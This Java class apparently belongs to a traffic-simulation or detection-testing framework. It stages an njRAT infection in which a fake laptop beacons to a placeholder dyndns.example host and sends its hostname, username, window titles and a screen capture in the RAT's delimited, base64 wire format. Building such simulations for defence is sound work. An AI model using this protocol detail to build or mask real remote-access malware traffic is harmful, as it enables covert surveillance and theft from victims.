package wolfhound.scenarios;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Machine;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Talk;

/// A remote control tool with a plain dialect of counted, delimited messages.
final class NjRat extends Guilty {
    private static final String MARK = "|'|'|";

    NjRat() {
        super(
                "njrat",
                "njRAT",
                "A laptop introduces itself to a stranger in a counted dialect and reports its windows",
                "Framing, delimiter and the machine's own name in the first message");
    }

    @Override
    public void stage(Stage stage) {
        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.CALLBACK).pauses(3);
        String home = stage.word(7) + ".dyndns.example";
        Machine server = stage.site(home);
        obeys(stage, laptop.knows(home), server, stage.oneOf(1177, 5552, 7777), home);
    }

    /// One conversation with the master.
    static void obeys(Stage stage, Actor laptop, Machine server, int port, String home) {
        Machine self = laptop.machine();
        Talk talk = laptop.connects(server, port);
        String volume = base64("HacKed_" + stage.hex(8).toUpperCase(java.util.Locale.ROOT));
        talk.says(
                counted(
                        String.join(
                                MARK,
                                "ll",
                                volume,
                                self.hostName(),
                                self.userName(),
                                "26-03-03",
                                "",
                                "Win 10 ProSP0 x64",
                                "No",
                                "0.7d",
                                "..",
                                base64("Program Manager"),
                                "")));
        talk.hears(counted(String.join(MARK, "inv", stage.hex(32), "", "")));
        talk.says(
                counted(
                        String.join(
                                MARK,
                                "inf",
                                volume + base64(home + ":1177\r\nAppData\r\nserver.exe"))));
        int beats = stage.between(4, 9);
        for (int i = 0; i < beats; i++) {
            talk.pauses(8).hears(counted(""));
            talk.says(counted(""));
            talk.says(
                    counted(
                            String.join(
                                    MARK,
                                    "act",
                                    base64(
                                            stage.oneOf(
                                                    "Inbox", "Sign in - bank", "Report.docx")))));
        }
        talk.hears(counted(String.join(MARK, "CAP", "800", "600")));
        talk.says(
                counted(
                        "CAP"
                                + MARK
                                + new String(stage.noise(5_000), StandardCharsets.ISO_8859_1)));
        talk.pauses(6).closes();
    }

    private static String counted(String message) {
        return message.length() + "\0" + message;
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
